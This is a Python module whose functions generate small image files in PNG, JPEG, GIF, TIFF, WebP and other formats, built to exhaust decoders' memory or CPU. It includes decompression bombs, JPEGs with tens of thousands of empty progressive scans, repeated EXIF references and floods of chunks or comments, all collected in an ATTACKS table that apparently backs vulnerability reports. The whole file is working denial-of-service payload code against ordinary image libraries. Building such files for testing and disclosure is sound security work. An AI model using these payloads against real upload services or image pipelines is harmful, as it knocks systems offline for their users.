"""Image files that are small and costly: bombs, endless scans, and lists that are read again and again.

Each function of `ATTACKS` returns the bytes of one file of at most 10 MB, most of them far less.
"""

from __future__ import annotations

import io
import struct
import zlib
from collections.abc import Callable
from functools import partial

from PIL import Image

SIDE = 8000
_MEGABYTE = 1_000_000
# Of an interlaced PNG: the first pixel, and the steps to the next.
_PASSES = ((0, 0, 8, 8), (4, 0, 8, 8), (0, 4, 4, 8), (2, 0, 4, 4), (0, 2, 2, 4), (1, 0, 2, 2), (0, 1, 1, 2))


def chunk(kind: bytes, data: bytes) -> bytes:
    """A chunk of a PNG file."""
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(
    width: int,
    height: int,
    *chunks: bytes,
    bits: int = 8,
    colour: int = 2,
    interlaced: bool = False,
    parts: int = 1,
) -> bytes:
    """A PNG of zeros, its pixels in `parts` chunks, with other chunks before them."""
    samples = {0: 1, 2: 3, 3: 1, 4: 2, 6: 4}[colour]

    def rows(across: int, down: int) -> int:
        return down * (1 + (across * samples * bits + 7) // 8) if across and down else 0

    size = rows(width, height)
    if interlaced:
        passes = (
            (0, 0, 8, 8),
            (4, 0, 8, 8),
            (0, 4, 4, 8),
            (2, 0, 4, 4),
            (0, 2, 2, 4),
            (1, 0, 2, 2),
            (0, 1, 1, 2),
        )
        size = sum(rows(-(-(width - x) // dx), -(-(height - y) // dy)) for x, y, dx, dy in passes)
    packer = zlib.compressobj(9)
    data = b"".join(packer.compress(bytes(min(_MEGABYTE, size - at))) for at in range(0, size, _MEGABYTE))
    data += packer.flush()
    step = -(-len(data) // parts)
    header = struct.pack(">IIBBBBB", width, height, bits, colour, 0, 0, interlaced)
    pixels = b"".join(chunk(b"IDAT", data[at : at + step]) for at in range(0, len(data), step))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + b"".join(chunks) + pixels + chunk(b"IEND", b"")


def png_of_profiles(kind: bytes = b"iCCP", count: int = 1200) -> bytes:
    """A PNG of many profiles or texts, each of which inflates to almost 8 MiB."""
    packed = zlib.compress(bytes(8 * 1024 * 1024 - 100), 9)
    return png(8, 8, *(chunk(kind, b"%d\0\0" % number + packed) for number in range(count)))


def segment(marker: int, data: bytes) -> bytes:
    """A segment of a JPEG file."""
    return struct.pack(">BBH", 0xFF, marker, len(data) + 2) + data


def jpeg_of_scans(scans: int, side: int = SIDE) -> bytes:
    """A progressive greyscale JPEG of side x side pixels whose scans all say: nothing here.

    One code stands for a run of 27,306 blocks without coefficients, so that a scan has some 80 bytes and
    costs a pass over all blocks.
    """
    blocks = (side // 8) ** 2
    bits = "010101010101010" * (-(-blocks // 27_306))
    bits += "1" * (-len(bits) % 8)
    data = int(bits, 2).to_bytes(len(bits) // 8, "big")
    scan = segment(0xDA, bytes((1, 1, 0, 1, 63, 0))) + data
    return (
        b"\xff\xd8"
        + segment(0xDB, b"\0" + bytes([1]) * 64)
        + segment(0xC2, struct.pack(">BHHB", 8, side, side, 1) + bytes((1, 0x11, 0)))
        + segment(0xC4, b"\x10" + bytes((1, *[0] * 15)) + b"\xe0")
        + scan * scans
        + b"\xff\xd9"
    )


def small_jpeg(*segments: bytes) -> bytes:
    """A JPEG of 16 x 16 pixels with segments before its own."""
    out = io.BytesIO()
    Image.new("RGB", (16, 16), "red").save(out, "JPEG")
    return out.getvalue()[:2] + b"".join(segments) + out.getvalue()[2:]


def directory(entries: int, size: int) -> bytes:
    """TIFF data whose directory has entries that all name the same bytes."""
    fields = b"".join(struct.pack("<HHII", 1000 + number, 7, size, 8) for number in range(entries))
    head = b"II*\0" + struct.pack("<IH", 8, entries) + fields + bytes(4)
    return head + bytes(max(0, size - len(head)))


def jpeg_of_exif(prefix: bytes = b"Exif\0\0", marker: int = 0xE1) -> bytes:
    """A JPEG whose EXIF data names the same 60,000 bytes 4,900 times."""
    return small_jpeg(segment(marker, prefix + directory(4_900, 60_000)))


def gif_of_comments(size: int = 9 * _MEGABYTE, *, each: int = 255, apart: bool = False) -> bytes:
    """A GIF with comments before its pixels, in blocks of `each` bytes; `apart` makes comments of them."""
    out = io.BytesIO()
    Image.new("P", (9, 9)).save(out, "GIF")
    content = out.getvalue()
    place = content.index(b"\x2c\0\0\0\0")
    block = bytes((each,)) + b"x" * each
    if apart:
        comments = (b"\x21\xfe" + block + b"\0") * (size // (each + 4))
    else:
        comments = b"\x21\xfe" + block * (size // (each + 1)) + b"\0"
    return content[:place] + comments + content[place:]


def gif_of_a_large_frame() -> bytes:
    """A GIF whose screen has one pixel, and whose frame has 65,535 x 65,535."""
    frame = b"\x2c\0\0\0\0\xff\xff\xff\xff\0\x08" + b"\x04\0\x01\x04\0" + b"\0"
    return b"GIF89a" + struct.pack("<HHBBB", 1, 1, 0x80, 0, 0) + bytes(6) + frame + b";"


def tiff(width: int, height: int, *, strips: int = 1, more: int = 0, more_bytes: int = 0) -> bytes:
    """A deflated TIFF whose strips are all the same bytes, with `more` entries of `more_bytes` each."""
    rows = -(-height // strips)
    packed = zlib.compress(bytes(width * rows * 3), 9)
    values = {256: width, 257: height, 258: 8, 259: 8, 262: 2, 277: 3, 278: rows}
    entries = len(values) + 2 + more
    after = 8 + 2 + 12 * entries + 4
    fields = [struct.pack("<HHII", tag, 4, 1, value) for tag, value in values.items()]
    places, lengths = (after, after + 4 * strips) if strips > 1 else (after, len(packed))
    data = b"" if strips == 1 else struct.pack(f"<{strips}I", *[after + 8 * strips] * strips)
    data += b"" if strips == 1 else struct.pack(f"<{strips}I", *[len(packed)] * strips)
    fields += [struct.pack("<HHII", 273, 4, strips, places), struct.pack("<HHII", 279, 4, strips, lengths)]
    fields += [struct.pack("<HHII", 40_000 + number, 7, more_bytes, 8) for number in range(more)]
    content = b"II*\0" + struct.pack("<IH", 8, entries) + b"".join(sorted(fields)) + bytes(4) + data + packed
    return content + bytes(max(0, more_bytes - len(content)))


def flat(form: str, mode: str = "RGB", side: int = SIDE, **options: object) -> bytes:
    """An image of one colour, encoded by Pillow; takes the memory that decoding it takes."""
    out = io.BytesIO()
    Image.new(mode, (side, side)).save(out, form, **options)
    return out.getvalue()


def webp_of_chunks(count: int = 1_200_000) -> bytes:
    """A WebP followed by chunks of no bytes."""
    out = io.BytesIO()
    Image.new("RGB", (16, 16)).save(out, "WEBP", lossless=True)
    body = out.getvalue()[12:]
    body = b"VP8X" + struct.pack("<I", 10) + bytes(4) + b"\x0f\0\0\x0f\0\0" + body + b"abcd\0\0\0\0" * count
    return b"RIFF" + struct.pack("<I", len(body) + 4) + b"WEBP" + body


#: Attacks by name; the first two are those of the reports.
ATTACKS: dict[str, Callable[[], bytes]] = {
    "PNG of 1 x 64,000,000": partial(png, 1, 64_000_000, colour=0),
    "JPEG of 60,000 scans": partial(jpeg_of_scans, 60_000),
    "JPEG of 500 scans": partial(jpeg_of_scans, 500),
    "JPEG of 60,000 small scans": partial(jpeg_of_scans, 60_000, 512),
    "JPEG of 2,000,000 comments": lambda: small_jpeg(b"\xff\xfe\0\x02" * 2_000_000),
    "JPEG of 500,000 EXIF segments": lambda: small_jpeg(segment(0xE1, b"Exif\0\0II") * 500_000),
    "JPEG of one EXIF value 4,900 times": jpeg_of_exif,
    "JPEG of one MPF value 4,900 times": partial(jpeg_of_exif, b"MPF\0", 0xE2),
    "PNG of 64,000,000 x 1": partial(png, 64_000_000, 1, colour=0),
    "PNG of 64 million pixels": partial(png, SIDE, SIDE),
    "PNG of 64 million transparent pixels": partial(png, SIDE, SIDE, colour=6),
    "PNG of 64 million pixels of 16 bits": partial(png, SIDE, SIDE, bits=16, colour=6),
    "PNG of 64 million grey pixels of 16 bits": partial(png, SIDE, SIDE, bits=16, colour=0),
    "PNG of 64 million interlaced pixels": partial(png, SIDE, SIDE, interlaced=True),
    "PNG of 12,000 x 5,300": partial(png, 12_000, 5_300),
    "PNG of 1,200 profiles": png_of_profiles,
    "PNG of 1,200 texts": partial(png_of_profiles, b"zTXt"),
    "PNG of 180,000 chunks": partial(png, SIDE, SIDE, parts=180_000),
    "GIF of one comment": gif_of_comments,
    "GIF of 2,000,000 comments": partial(gif_of_comments, each=1, apart=True),
    "GIF of a large frame": gif_of_a_large_frame,
    "GIF of 64 million pixels": partial(flat, "GIF", "P"),
    "TIFF of one strip": partial(tiff, SIDE, SIDE),
    "TIFF of 8,000 equal strips": partial(tiff, SIDE, SIDE, strips=SIDE),
    "TIFF of one value 20,000 times": partial(tiff, 16, 16, more=20_000, more_bytes=9 * _MEGABYTE),
    "WebP of 64 million pixels": partial(flat, "WEBP", lossless=True, quality=0, method=0),
    "WebP of 1,200,000 chunks": webp_of_chunks,
    "AVIF of 64 million pixels": partial(flat, "AVIF", speed=10),
    "JPEG 2000 of 64 million pixels": partial(flat, "JPEG2000"),
    "BMP of 64 million pixels": partial(flat, "BMP", "1"),
}
